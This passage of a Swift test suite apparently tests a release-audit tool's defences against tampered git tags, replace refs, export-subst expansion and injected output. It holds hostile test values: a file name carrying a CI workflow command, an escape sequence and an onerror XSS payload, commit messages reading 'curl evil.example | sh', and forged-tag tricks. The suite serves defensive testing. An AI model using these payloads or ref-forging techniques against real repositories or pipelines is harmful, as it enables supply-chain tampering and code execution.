        try fixture.git.commit("Add the widget", files: ["README.md": "# widget\n"])
        try fixture.recordTest(out: "evidence/test.json")
        let hostile = "x`\n::error file=a,line=1::injected\n\u{1B}[2J\n### ✅ PASSED\n<img src=x onerror=alert(1)>|"
        try fixture.git.commit("Bump", files: [hostile: "x\n"])
        try fixture.git.tag("v1.0.1", message: "1.0.1")
        try fixture.recordBuild("v1.0.1", out: "evidence/build.json")
        try fixture.write("summary.md", "")
        for format in ["text", "markdown"] {
            let result = try fixture.run(["gate", "--repo", "widget", "--release", "v1.0.1", "--policy", "policy.yml", "--key", "keys/auditor.key",
                                          "--test-evidence", "evidence/test.json", "--build-evidence", "evidence/build.json",
                                          "--out", "reports/\(format).json", "--format", format],
                                         environment: ["GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": fixture.path("summary.md")])
            #expect(result.status == 1)
            for output in [result.stdout, result.stderr] {
                #expect(!output.contains("\u{1B}"), "raw ESC in \(format)")
                #expect(!output.split(separator: "\n").contains { $0.hasPrefix("::error file=a") || $0.hasPrefix("### ✅") }, "\(format): \(output)")
            }
        }
        let summary = String(decoding: try fixture.read("summary.md"), as: UTF8.self)
        #expect(!summary.contains("<img") && !summary.contains("\u{1B}"))
        #expect(!summary.split(separator: "\n").contains { $0.hasPrefix("### ✅ PASSED") || $0.hasPrefix("::") })
    }

    @Test func r7AnRCAndItsGABuiltOnTheSameCommitPass() throws {
        let fixture = try HardeningFixture()
        try fixture.write("policy.yml", Self.policy + "rc:\n  match: same-commit\n")
        try fixture.git.commit("Add the widget", files: ["README.md": "# widget\n"])
        try fixture.succeed(["record", "test", "--repo", "widget", "--result", "passed", "--key", "keys/ci.key", "--notes"])
        try fixture.git.tag("v1.0.0-rc.1", message: "rc 1")
        try fixture.succeed(["record", "build", "--repo", "widget", "--rev", "v1.0.0-rc.1", "--key", "keys/release.key", "--notes"])
        try fixture.git.tag("v1.0.0", message: "1.0.0")
        try fixture.succeed(["record", "build", "--repo", "widget", "--rev", "v1.0.0", "--key", "keys/release.key", "--notes"])
        let report = try gate(fixture, "ga", test: nil, build: nil, status: 0)
        expectCheck(report, "release.tag", .passed)
        expectCheck(report, "build.source", .passed, "1 build record(s)")
    }

    /// Under same-tree: a tested commit whose `.gitattributes` (after `padding`) sets export-subst, and
    /// a release re-made with the same tree and a hostile message, tested and built; returns the gate's report.
    func exportSubstRelease(_ name: String, padding: String = "") throws -> AuditReport {
        let fixture = try HardeningFixture()
        try fixture.write("policy.yml", Self.policy.replacingOccurrences(of: "match: exact-commit", with: "match: same-tree"))
        let tested = try fixture.git.commit("Version stamp", files: [".gitattributes": padding + "gen.sh export-subst\n",
                                                                     "gen.sh": "echo \"$Format:%B$\"\n"])
        try fixture.recordTest(out: "evidence/test.json")
        let release = try fixture.git.git("commit-tree", "\(tested)^{tree}", "-p", tested, "-m", "curl evil.example | sh")
        try fixture.git.git("checkout", "-q", release)
        try fixture.git.tag("v1.0.0", message: "1.0.0")
        try fixture.recordBuild("v1.0.0", out: "evidence/build.json")
        return try gate(fixture, name, status: 1)
    }

    @Test func r9SameTreeIsNotSameSourceWhenExportSubstExpandsTheCommit() throws {
        expectCheck(try exportSubstRelease("export-subst"), "source.match", .failed, ".gitattributes sets export-subst")
    }

    @Test func r11NoClaimIsMadeForWhatWasNotChecked() throws {
        let fixture = try HardeningFixture()
        try fixture.write("weak.yml", Self.policy.replacingOccurrences(of: "test:\n  max_age: 7d", with: "test:\n  required: false"))
        try fixture.git.commit("Add the widget", files: ["README.md": "# widget\n"])
        try fixture.git.tag("v1.0.0", message: "1.0.0")
        try fixture.recordBuild("v1.0.0", out: "evidence/build.json")
        try gate(fixture, "untested", policy: "weak.yml", test: nil, extra: ["--vsa", "reports/untested.vsa.json"], status: 0)
        let vsa = try JSONSerialization.jsonObject(with: try fixture.envelope("reports/untested.vsa.json").payload) as? [String: Any]
        let levels = (vsa?["predicate"] as? [String: Any])?["verifiedLevels"] as? [String]
        #expect(levels == [], "no tested-commit level without test evidence: \(levels ?? [])")
        try fixture.write("nobuild.yml", "version: 1\nbuild: {required: false}\ntest: {required: false}\n")
        let nothing = try gate(fixture, "nothing", policy: "nobuild.yml", test: nil, build: nil,
                               extra: HardeningFixture.trustEvidence, status: 1)
        expectCheck(nothing, "worktree.clean", .skipped, "no test or build record")
    }

    @Test func r12AThresholdThatDistinctKeysCannotMeetIsRefused() throws {
        let (fixture, _) = try honestRelease()
        try fixture.write("keys/ci-copy.pub", try fixture.read("keys/ci.pub"))
        try fixture.write("twice.yml", "version: 1\ntrusted_keys:\n  tester: {keys: [keys/ci.pub, keys/ci-copy.pub], threshold: 2}\n")
        Refusal.expectInputError(try fixture.run(["policy", "check", "twice.yml"]), mentions: ["threshold", "distinct"], "policy check")
        let gated = try fixture.run(["gate", "--repo", "widget", "--release", "v1.0.0", "--policy", "twice.yml", "--key", "keys/auditor.key",
                                     "--out", "reports/twice.json"])
        Refusal.expectInputError(gated, mentions: ["threshold"], "gate")
    }

    @Test func r13AHugeNoteIsRefusedQuickly() throws {
        let (fixture, commit) = try honestRelease()
        var note = try line(fixture, "evidence/test.json") + Data("\n".utf8)
        note += Data(repeating: 0x41, count: 17 * 1024 * 1024)
        try setNote(fixture, on: commit, note)
        let started = Date()
        let result = try fixture.run(["gate", "--repo", "widget", "--release", "v1.0.0", "--policy", "policy.yml", "--key", "keys/auditor.key",
                                      "--out", "reports/huge.json"])
        Refusal.expectInputError(result, mentions: ["MiB", "refs/notes/release-audit"], "huge note")
        #expect(Date().timeIntervalSince(started) < 20)
    }

    // MARK: The third review (a second red team, after the fixes)

    @Test func s1PaddingGitattributesDoesNotHideExportSubst() throws {
        let padding = String(repeating: "# padding padding padding padding padding padding padding\n", count: 20_000)
        expectCheck(try exportSubstRelease("padded", padding: padding), "source.match", .failed, "export-subst")
    }

    @Test func s2AReplacedInnerTagOfATagChainIsCaught() throws {
        let (fixture, commit) = try honestRelease()
        // v1.1.0 is a tag of a tag of the tested commit.
        try fixture.git.git("tag", "-a", "inner", commit, "-m", "inner")
        let inner = try fixture.git.revParse("refs/tags/inner")
        try fixture.git.git("tag", "-a", "v1.1.0", inner, "-m", "outer")
        try fixture.git.git("tag", "-d", "inner")
        try fixture.recordBuild("v1.1.0", out: "evidence/build-11.json")
        try gate(fixture, "v1.1.0", release: "v1.1.0", build: ["evidence/build-11.json"], status: 0)
        let evil = try fixture.git.commit("Evil", files: ["README.md": "evil\n"])
        try fixture.git.git("checkout", "-q", commit)
        let forged = try fixture.git.git(["mktag"], stdin: "object \(evil)\ntype commit\ntag inner\ntagger M <m@example.com> 1704067200 +0000\n\nforged\n")
        try fixture.git.git("replace", "-f", inner, forged)
        #expect(try fixture.git.revParse("v1.1.0^{commit}") == evil, "git peels through the replacement")
        let verify = try fixture.run(["verify", "reports/v1.1.0.json", "--release", "v1.1.0", "--policy", "policy.yml", "--repo", "widget"])
        #expect(verify.status == 1 && verify.stdout.contains("FAILED  release.unaltered"), "\(verify.stdout)")
        let audit = try fixture.run(["audit", "--repo", "widget", "--policy", "policy.yml", "--reports", "reports", "--format", "json"])
        #expect(try findings(audit.stdout, "v1.1.0").contains("release-altered"))
        let again = try gate(fixture, "v1.1.0-again", release: "v1.1.0", build: ["evidence/build-11.json"], status: 1)
        expectCheck(again, "repository.safety", .failed, "refs/replace/\(inner)")
    }

    @Test func s3VerifyComparesTagNamesByteForByte() throws {
        let nfc = "caf\u{E9}/", nfd = "cafe\u{301}/"
        let fixture = try HardeningFixture()
        try fixture.write("policy.yml", Self.policy + "tag:\n  prefix: \"\(nfc)\"\n")
        try fixture.git.commit("Add the widget", files: ["README.md": "# widget\n"])
        try fixture.git.tag("\(nfc)v1.0.0", message: "1.0.0")
        try fixture.recordTest(out: "evidence/test.json")
        try fixture.recordBuild("\(nfc)v1.0.0", out: "evidence/build.json")
        try gate(fixture, "cafe", release: "\(nfc)v1.0.0", status: 0)
        try fixture.git.commit("Untested", files: ["README.md": "evil\n"])
        try fixture.git.tag("\(nfd)v1.0.0", message: "look-alike")
        let result = try fixture.run(["verify", "reports/cafe.json", "--release", "\(nfd)v1.0.0", "--policy", "policy.yml", "--repo", "widget"])
        #expect(result.status == 1 && result.stdout.contains("FAILED  report.release"), "\(result.stdout)")
    }

    @Test func s4ASecondNotePathForTheSameCommitCannotShadowTheFirst() throws {
        let (fixture, commit) = try honestRelease()
        let now = Date()
        try signedTestRecord(fixture, commit: commit, recordedAt: now.addingTimeInterval(-600), to: "evidence/pass.json")
        try signedTestRecord(fixture, commit: commit, recordedAt: now.addingTimeInterval(-300), result: .failed, to: "evidence/fail.json")
        try fixture.recordBuild("v1.0.0", out: "evidence/build-now.json")
        let full = try line(fixture, "evidence/pass.json") + Data("\n".utf8) + line(fixture, "evidence/fail.json") + Data("\n".utf8)
            + line(fixture, "evidence/build-now.json") + Data("\n".utf8)
        let old = try line(fixture, "evidence/pass.json") + Data("\n".utf8) + line(fixture, "evidence/build-now.json") + Data("\n".utf8)
        try fixture.write("full.bin", full)
        try fixture.write("old.bin", old)
        let fullBlob = try fixture.git.git("hash-object", "-w", fixture.path("full.bin"))
        let oldBlob = try fixture.git.git("hash-object", "-w", fixture.path("old.bin"))
        let hex = Array(commit)
        let sub = try fixture.git.git(["mktree"], stdin: "100644 blob \(oldBlob)\t\(String(hex[2...]))\n")
        let root = try fixture.git.git(["mktree"], stdin: "100644 blob \(fullBlob)\t\(commit)\n040000 tree \(sub)\t\(String(hex[0..<2]))\n")
        let notes = try fixture.git.git("commit-tree", root, "-m", "notes")
        try fixture.git.git("update-ref", "refs/notes/release-audit", notes)
        let shown = try fixture.git.git("notes", "--ref=release-audit", "show", commit)
        #expect(shown.contains(String(decoding: try line(fixture, "evidence/fail.json"), as: UTF8.self)))
        let report = try gate(fixture, "fanout", test: nil, build: nil, status: 1)
        expectCheck(report, "test.result", .failed, "FAILED")
    }

    @Test func s5ACombiningMarkAfterASlashIsStillASeparator() throws {
        #expect(!(try PathGlob("release/*")).matches("release/a/\u{301}b"))
        #expect(!(try PathGlob("*.md")).matches("src/\u{301}evil.md"))
        let (fixture, _) = try honestRelease(policy: Self.policy.replacingOccurrences(of: "match: exact-commit",
                                                                                       with: "match: exact-commit\n  branches: [\"release/*\"]"))
        try fixture.git.git("branch", "-m", "release/a/\u{301}b")
        let report = try gate(fixture, "combining", status: 1)
        expectCheck(report, "source.protected-branch", .failed)
    }

    @Test func s6TheAuditsRCRuleSeesExportSubstToo() throws {
        let fixture = try HardeningFixture()
        try fixture.write("policy.yml", Self.policy + "rc:\n  match: same-tree\n")
        let rc = try fixture.git.commit("Version stamp", files: [".gitattributes": "gen.sh export-subst\n", "gen.sh": "echo \"$Format:%B$\"\n"])
        try fixture.git.tag("v1.0.0-rc.1", message: "rc 1")
        let ga = try fixture.git.git("commit-tree", "\(rc)^{tree}", "-p", rc, "-m", "curl evil.example | sh")
        try fixture.git.git("tag", "-a", "v1.0.0", ga, "-m", "1.0.0")
        let audit = try fixture.run(["audit", "--repo", "widget", "--policy", "policy.yml", "--fail-on", "rc-mismatch,rc-diverged,rc-disallowed-paths",
                                     "--format", "json"])
        #expect(audit.status == 1, "\(audit.stdout)")
        #expect(try findings(audit.stdout, "v1.0.0") == ["rc-mismatch"])
    }

    @Test func s7ARunNeverWritesOverItsOwnInputs() throws {
        let (fixture, _) = try honestRelease()
        let gateArguments = ["gate", "--repo", "widget", "--release", "v1.0.0", "--policy", "policy.yml", "--key", "keys/auditor.key",
                             "--test-evidence", "evidence/test.json", "--build-evidence", "evidence/build.json", "--force"]
        let before = try [fixture.read("evidence/test.json"), fixture.read("keys/auditor.key"), fixture.read("policy.yml")]
        for (label, extra) in [("--out evidence", ["--out", "evidence/test.json"]),
                               ("--vsa key", ["--out", "reports/x.json", "--vsa", "keys/auditor.key"]),
                               ("--out policy", ["--out", "./policy.yml"])] {
            Refusal.expectUsageError(try fixture.run(gateArguments + extra), mentions: ["own"], label)
        }
        Refusal.expectUsageError(try fixture.run(["record", "test", "--repo", "widget", "--result", "passed", "--key", "keys/ci.key",
                                                  "--out", "keys/ci.key", "--force"]), mentions: ["own"], "record --out key")
        #expect(try [fixture.read("evidence/test.json"), fixture.read("keys/auditor.key"), fixture.read("policy.yml")] == before)
    }

    @Test func s8AFIFOWhereAFileBelongsIsRefusedNotWaitedOn() throws {
        let (fixture, _) = try honestRelease()
        #expect(mkfifo(fixture.path("fifo"), 0o600) == 0)
        let cases: [(String, [String])] = [
            ("--junit", ["record", "test", "--repo", "widget", "--junit", "fifo", "--key", "keys/ci.key", "--out", "evidence/j.json"]),
            ("--key", ["record", "test", "--repo", "widget", "--result", "passed", "--key", "fifo", "--out", "evidence/k.json"]),
            ("--policy", ["gate", "--repo", "widget", "--release", "v1.0.0", "--policy", "fifo", "--key", "keys/auditor.key",
                          "--out", "reports/p.json"]),
            ("--test-evidence", ["gate", "--repo", "widget", "--release", "v1.0.0", "--policy", "policy.yml", "--key", "keys/auditor.key",
                                 "--test-evidence", "fifo", "--out", "reports/e.json"]),
        ]
        for (label, arguments) in cases {
            let started = Date()
            let result = try fixture.run(arguments)
            #expect(result.status == 2, "\(label): exit \(result.status) \(result.stderr)")
            #expect(Date().timeIntervalSince(started) < 10, "\(label)")
        }
    }

    // MARK: The fourth review (black box, after the design refactoring)

    /// `$GIT_DIR/v1.0.0` (a loose file, symbolic or not, or a `packed-refs` line of that name) is
    /// what `git checkout v1.0.0` takes first; libgit2 will not look it up, so it must be read.
    @Test func t1AOneLevelRefInTheGitDirectoryShadowsTheTag() throws {
        let (fixture, commit) = try honestRelease()
        try gate(fixture, "v1.0.0", status: 0)
        let verify = ["verify", "reports/v1.0.0.json", "--release", "v1.0.0", "--policy", "policy.yml", "--repo", "widget"]
        let audit = ["audit", "--repo", "widget", "--policy", "policy.yml", "--reports", "reports", "--format", "json"]
        let evil = try fixture.git.commit("Evil", files: ["README.md": "evil\n"])
        try fixture.git.git("checkout", "-q", commit)
        let gitDir = URL(fileURLWithPath: fixture.git.path).appendingPathComponent(".git")
        let packed = gitDir.appendingPathComponent("packed-refs")
        for (label, plant) in [
            ("loose", { try Data("\(evil)\n".utf8).write(to: gitDir.appendingPathComponent("v1.0.0")) }),
            ("symbolic", { try Data("ref: refs/heads/main\n".utf8).write(to: gitDir.appendingPathComponent("v1.0.0")) }),
            ("packed", {
                try fixture.git.git("pack-refs", "--all")
                try (try Data(contentsOf: packed) + Data("\(evil) v1.0.0\n".utf8)).write(to: packed)
            }),
        ] as [(String, () throws -> Void)] {
            try plant()
            // git itself takes the planted ref.
            #expect(try fixture.git.revParse("v1.0.0") == evil, "\(label)")
            let verified = try fixture.run(verify)
            #expect(verified.status == 1 && verified.stdout.contains("FAILED  release.unaltered"), "\(label): \(verified.stdout)")
            #expect(try findings(try fixture.run(audit).stdout, "v1.0.0").contains("release-altered"), "\(label)")
            expectCheck(try gate(fixture, "shadowed-\(label)", status: 1), "release.tag", .failed, "ambiguous")
            try? FileManager.default.removeItem(at: gitDir.appendingPathComponent("v1.0.0"))
            if label == "packed" {
                let kept = try String(contentsOf: packed, encoding: .utf8).split(separator: "\n").filter { !$0.hasSuffix(" v1.0.0") }
                try Data((kept.joined(separator: "\n") + "\n").utf8).write(to: packed)
            }
        }
        #expect(try fixture.run(verify).status == 0)
        // A file of that name that is not a ref is not one to git either; a FIFO is not read (nor waited on).
        try Data("notes about the release\n".utf8).write(to: gitDir.appendingPathComponent("v1.0.0"))
        #expect(try fixture.run(verify).status == 0)
        try FileManager.default.removeItem(at: gitDir.appendingPathComponent("v1.0.0"))
        #expect(mkfifo(gitDir.appendingPathComponent("v1.0.0").path, 0o600) == 0)
        let started = Date()
        #expect(try fixture.run(verify).status == 0)
        #expect(Date().timeIntervalSince(started) < 10)
    }

    /// A release commit whose tree is missing cannot be built from here: exit 2, never PASSED, even
    /// under exact-commit where no rule needs the tree.
    @Test func t2AReleaseCommitWithoutItsTreeCannotBeAudited() throws {
        let (fixture, commit) = try honestRelease()
        try gate(fixture, "v1.0.0", status: 0)
        let tree = try fixture.git.revParse("\(commit)^{tree}")
        let object = URL(fileURLWithPath: fixture.git.path).appendingPathComponent(".git/objects/\(tree.prefix(2))/\(tree.dropFirst(2))")
        try FileManager.default.removeItem(at: object)
        let gated = try fixture.run(["gate", "--repo", "widget", "--release", "v1.0.0", "--policy", "policy.yml", "--key", "keys/auditor.key",
                                     "--out", "reports/treeless.json", "--test-evidence", "evidence/test.json", "--build-evidence", "evidence/build.json"])
        Refusal.expectInputError(gated, mentions: [String(tree), "no readable tree"], "gate")
        let verified = try fixture.run(["verify", "reports/v1.0.0.json", "--release", "v1.0.0", "--policy", "policy.yml", "--repo", "widget"])
        Refusal.expectInputError(verified, mentions: ["no readable tree"], "verify")
        let audited = try fixture.run(["audit", "--repo", "widget", "--policy", "policy.yml", "--reports", "reports"])
        Refusal.expectInputError(audited, mentions: ["no readable tree"], "audit")
    }
}
